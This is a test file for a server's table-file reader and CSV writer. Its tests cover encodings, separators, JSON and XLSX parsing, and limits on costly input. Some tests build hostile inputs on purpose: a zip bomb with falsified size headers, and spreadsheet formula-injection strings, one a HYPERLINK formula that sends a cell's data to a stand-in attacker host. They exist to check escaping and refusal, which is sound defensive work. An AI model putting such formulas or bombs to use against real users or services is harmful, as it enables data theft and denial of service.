import { cpuMs } from '#test/cpu.ts'
import { money } from '#kernel/money.ts'
import fc from 'fast-check'
import { strToU8, zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { CSV_START, csvLine, readTableFile } from './table-file.server.ts'

/** Of a processor that may be slow; what is not bounded takes minutes. */
const SHORT_MS = 3000

const read = (bytes: string | Buffer, maxRows = 100) => readTableFile(Buffer.from(bytes as string), { maxRows })
const valuesOf = (bytes: string | Buffer) => {
  const file = read(bytes)
  if (!file.ok) throw new Error(file.failure.reason)
  return file.value.rows.map(({ values }) => values)
}

const two = [
  { city: 'Ñuñoa', price: '50' },
  { city: 'Colón', price: '60' },
]

describe('a file of rows', () => {
  test.each<[string, string | Buffer]>([
    ['with commas', 'city,price\nÑuñoa,50\nColón,60\n'],
    ['with semicolons, as spreadsheets write it in Chile', 'city;price\r\nÑuñoa;50\r\nColón;60\r\n'],
    ['with tabs', 'city\tprice\nÑuñoa\t50\nColón\t60'],
    ['with a mark of its encoding', '\ufeffcity;price\r\nÑuñoa;50\r\nColón;60'],
    ['in UTF-16', Buffer.from('\ufeffcity\tprice\nÑuñoa\t50\nColón\t60', 'utf16le')],
    ['in the other UTF-16', Buffer.from('\ufeffcity\tprice\nÑuñoa\t50\nColón\t60', 'utf16le').swap16()],
    ['with quotation marks and empty lines', '"city","price"\n\n"Ñuñoa","50"\n,\n"Colón",60,\n'],
    [
      'as JSON',
      JSON.stringify([
        { city: 'Ñuñoa', price: 50 },
        { city: 'Colón', price: '60' },
      ]),
    ],
    ['as JSON with a mark', `\ufeff ${JSON.stringify(two)}`],
  ])('%s', (_how, bytes) => {
    expect(valuesOf(bytes)).toEqual(two)
  })

  test('in the encoding of Windows is read, and said to be guessed', () => {
    const file = read(Buffer.from('city;price\r\nÑuñoa;50\r\nColón;60', 'latin1'))
    expect(file).toMatchObject({ value: { isGuessed: true, rows: [{ values: two[0] }, { values: two[1] }] } })
    expect(read('city\nA')).toMatchObject({ value: { isGuessed: false } })
  })

  test('says where a person finds a row: by the spreadsheet’s own numbers, or in the list', () => {
    const numbers = (text: string) => {
      const file = read(text)
      return file.ok && file.value.rows.map(({ number }) => number)
    }
    expect(numbers('city,text\nA,"two\nlines"\n,\nB,')).toEqual([2, 4])
    expect(numbers('[{"city":"A"},{"city":"B"}]')).toEqual([1, 2])
  })

  test('of JSON has the values of a form', () => {
    expect(
      valuesOf(
        '[{"a":true,"b":false,"c":null,"d":["x","y"],"e":1.5,"f":{"g":1},"__proto__":"x","h":"a\\u0000\\ud800"}]',
      ),
    ).toEqual([
      Object.fromEntries([
        ['a', 'on'],
        ['b', ''],
        ['c', ''],
        ['d', 'x,y'],
        ['e', '1.5'],
        ['f', ''],
        ['__proto__', 'x'],
        ['h', 'a\ufffd'],
      ]),
    ])
  })

  test.each<[string, string | Buffer, object]>([
    ['nothing', '', { reason: 'empty' }],
    ['a first line alone', 'city,price\n', { reason: 'empty' }],
    ['an empty list', '[]', { reason: 'empty' }],
    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0xff]), { reason: 'not-text' }],
    ['half of UTF-16', Buffer.from([0xff, 0xfe, 0x61]), { reason: 'not-text' }],
    ['broken JSON', '[{"city":', { reason: 'json' }],
    ['JSON that is no list', '{"city":"A"}', { reason: 'json-shape' }],
    ['a list of lists', '[["A"]]', { reason: 'json-shape' }],
    ['a quotation mark that is never closed', 'city,price\n"A,5\nB,6', { reason: 'csv' }],
    ['more cells than columns', 'city,price\nA,5\nB,6,7', { reason: 'csv', line: 3 }],
    [
      'a column too many',
      `${Array.from({ length: 501 }, (_, at) => `c${at}`).join()}\nA`,
      { reason: 'too-many-columns', max: 500 },
    ],
    [
      'a name too many in JSON',
      JSON.stringify(Array.from({ length: 501 }, (_, at) => ({ [`c${at}`]: 'A' }))),
      { reason: 'too-many-columns', max: 500 },
    ],
    ['a row too many', `city\n${'A\n'.repeat(101)}`, { reason: 'too-many-rows', max: 100 }],
  ])('%s is none', (_what, bytes, failure) => {
    expect(read(bytes)).toMatchObject({ ok: false, failure })
  })

  test('as many rows as may be are read', () => {
    expect(valuesOf(`city\n${'A\n'.repeat(100)}`)).toHaveLength(100)
  })

  test('made to cost much is refused in a short time', () => {
    const wide = Array.from({ length: 600 }, (_, at) => `c${at}`)
    const row = wide.map(() => 'A'.repeat(30)).join()
    for (const text of [
      `${wide.join()}\n${`${row}\n`.repeat(100)}`,
      '"'.repeat(2e6),
      `${','.repeat(2e6)}\n`,
      '[['.repeat(1e6),
      `a\n${'"a"\n'.repeat(5e5)}`,
    ]) {
      expect(cpuMs(() => expect(read(text).ok).toBe(false))).toBeLessThan(SHORT_MS)
    }
  })
})

describe('[HOST-02] a workbook', () => {
  const workbook = (parts: Record<string, string>) =>
    Buffer.from(
      zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [`xl/${name}.xml`, strToU8(text)]))),
    )
  const sheet = (rows: string) => ({ 'worksheets/sheet1': `<worksheet><sheetData>${rows}</sheetData></worksheet>` })
  const cell = (at: string, text: string) =>
    `<c r="${at}" t="inlineStr"><is><t xml:space="preserve">${text}</t></is></c>`

  test('is read by its cells: shared and own texts, runs without their reading, numbers, days and times', () => {
    const rows = [
      `<row r="1">${['city', 'price', 'day', 'opens', 'name'].map((text, at) => cell(`${'ABCDE'[at]}1`, text)).join('')}</row>`,
      '<row r="3" spans="1:5"><c r="A3" t="s"><v>1</v></c><c r="B3"><v>50.5</v></c><c r="C3" s="1"><v>46380</v></c>',
      '<c r="D3" s="2"><v>0.375</v></c><c r="E3" t="s"><v>0</v></c></row>',
    ].join('')
    const strings =
      '<sst><si><t>東京</t><rPh sb="0" eb="1"><t>トウ</t></rPh><r><t> 2</t></r></si><si><t>Ñu&#241;oa &amp; co</t></si></sst>'
    const styles =
      '<styleSheet><numFmts><numFmt numFmtId="170" formatCode="hh:mm"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="170"/></cellXfs></styleSheet>'
    expect(valuesOf(workbook({ ...sheet(rows), sharedStrings: strings, styles }))).toEqual([
      { city: 'Ñuñoa & co', price: '50.5', day: '2026-12-24', opens: '09:00', name: '東京 2' },
    ])
  })

  test.each<[string, Record<string, string>]>([
    ['open texts', { sharedStrings: '<si>'.repeat(5e5), ...sheet('') }],
    ['open runs of one text', { sharedStrings: `<si>${'<t>'.repeat(5e5)}</si>`, ...sheet('') }],
    ['open readings of one text', { sharedStrings: `<si>${'<rPh>'.repeat(5e5)}</si>`, ...sheet('') }],
    ['open rows', sheet('<row>'.repeat(5e5))],
    ['open cells of a row', sheet(`<row>${'<c>'.repeat(5e5)}</row>`)],
    ['open values of a cell', sheet(`<row><c>${'<v>'.repeat(5e5)}</c></row>`)],
    ['tags without an end', { styles: '<numFmt'.repeat(5e5), workbook: '<sheet'.repeat(5e5), ...sheet('') }],
    [
      'a long format',
      {
        styles: `<numFmt numFmtId="1" formatCode="${'['.repeat(1e6)}"/><cellXfs><xf numFmtId="1"/></cellXfs>`,
        ...sheet(''),
      },
    ],
    [
      'many sheets',
      Object.fromEntries(Array.from({ length: 15 }, (_, at) => [`worksheets/sheet${at}`, ' '.repeat(2e6)])),
    ],
  ])('made to cost much is refused in a short time: %s', (_what, parts) => {
    const bytes = workbook(parts)
    expect(bytes.length).toBeLessThan(200_000)
    expect(cpuMs(() => expect(read(bytes).ok).toBe(false))).toBeLessThan(SHORT_MS)
  })

  test('that says falsely how much it unfolds to is refused as soon as it is too much', () => {
    const bytes = workbook(sheet(' '.repeat(3e7)))
    const honest = Buffer.alloc(4)
    honest.writeUInt32LE(3e7 + sheet('')['worksheets/sheet1'].length)
    for (let at = bytes.indexOf(honest); at >= 0; at = bytes.indexOf(honest)) bytes.writeUInt32LE(100, at)
    const many = Buffer.concat(Array.from({ length: 20 }, () => bytes))
    for (const file of [bytes, many]) {
      const ms = cpuMs(() => expect(read(file)).toMatchObject({ failure: { reason: 'not-text' } }))
      expect(ms).toBeLessThan(SHORT_MS)
    }
  })

  test('of more files than a workbook has is refused', () => {
    const files = Object.fromEntries(Array.from({ length: 1001 }, (_, at) => [`media/${at}`, '']))
    expect(read(workbook({ ...files, ...sheet('') }))).toMatchObject({ failure: { reason: 'not-text' } })
  })

  test('whose cells show one long text again and again is refused', () => {
    const long = (times: number) => {
      const cells = `<c t="s"><v>1</v></c>`.repeat(2)
      const rows = `<row><c t="s"><v>0</v></c><c t="s"><v>2</v></c></row>${`<row>${cells}</row>`.repeat(times)}`
      const strings = `<sst><si><t>titleEs</t></si><si><t>${'A'.repeat(100_000)}</t></si><si><t>titleEn</t></si></sst>`
      return read(workbook({ sharedStrings: strings, ...sheet(rows) }))
    }
    expect(long(19)).toMatchObject({ ok: true, value: { rows: { length: 19 } } })
    expect(long(20)).toMatchObject({ failure: { reason: 'too-much-text' } })
  })
})

const english = { separator: ',', decimal: '.' } as const

test('[HOST-07] numbers and amounts have the reader’s decimals, between the reader’s separators', () => {
  const cells = ['a', -33.45, money(1250, 'USD'), money(45_000, 'CLP'), 'b,c;d']
  expect(csvLine(cells, english)).toBe('"a","-33.45","12.50","45000","b,c;d"\r\n')
  expect(csvLine(cells, { separator: ';', decimal: ',' })).toBe('"a";"-33,45";"12,50";"45000";"b,c;d"\r\n')
})

test.each([
  ['sep=;\r\nid;unit;titleEs\r\na1;hour;Estudio, grande\r\n'],
  ['\ufeffsep=;\nid;unit;titleEs\na1;hour;Estudio, grande'],
  ['"sep=;"\nid;unit;titleEs\na1;hour;Estudio, grande'],
  ['SEP=\t\r\nid\tunit\ttitleEs\r\na1\thour\tEstudio, grande'],
  ['sep=|\nid|unit|titleEs\na1|hour|Estudio, grande'],
])('[HOST-02] Excel’s own first line says what separates the cells: %j', (text) => {
  expect(valuesOf(text)).toEqual([{ id: 'a1', unit: 'hour', titleEs: 'Estudio, grande' }])
})

describe('[HOST-07] what a spreadsheet opens', () => {
  test.each([
    ['=1+1', `'=1+1`],
    [`=HYPERLINK("http://evil.example?"&A1)`, `'=HYPERLINK(""http://evil.example?""&A1)`],
    ['+1', `'+1`],
    ['-1+1', `'-1+1`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['＝1', `'＝1`],
    [`'=1`, `''=1`],
    [' =1', `' =1`],
    ['\u00a0=1', `'\u00a0=1`],
    ['\u200b=1', `'\u200b=1`],
    ['\ufeff=1', `'\ufeff=1`],
    ['\u2060\u200d+1', `'\u2060\u200d+1`],
    ['\u00ad@A1', `'\u00ad@A1`],
    ['\u202e-1+1', `'\u202e-1+1`],
    ['\u3164=1', `'\u3164=1`],
    ['\u0001=1', `'\u0001=1`],
    [`\u200b'=1`, `'\u200b'=1`],
    ['a =1', 'a =1'],
    ['-33.44', '-33.44'],
    ['-33,44', '-33,44'],
    [`'tis`, `'tis`],
    ['a=1', 'a=1'],
  ])('%j is written as %j', (text, written) => {
    expect(csvLine([text], english)).toBe(`"${written}"\r\n`)
  })

  test('comes back exactly as it was, whatever it is', () => {
    const text = fc
      .string({
        unit: fc.constantFrom(
          `'`,
          '"',
          '=',
          '+',
          '-',
          '@',
          '\t',
          '\n',
          '\r',
          ',',
          ';',
          'a',
          '1',
          'Ñ',
          ' ',
          '＝',
          '\u200b',
          '\u2060',
        ),
      })
      .map((each) => each.trim())
      .filter((each) => each !== '')
    fc.assert(
      fc.property(fc.array(fc.record({ a: text, b: text }), { minLength: 1, maxLength: 5 }), (rows) => {
        const lines = [['a', 'b'], ...rows.map(({ a, b }) => [a, b])].map((cells) => csvLine(cells, english))
        expect(valuesOf(CSV_START + lines.join(''))).toEqual(rows)
      }),
    )
  })
})
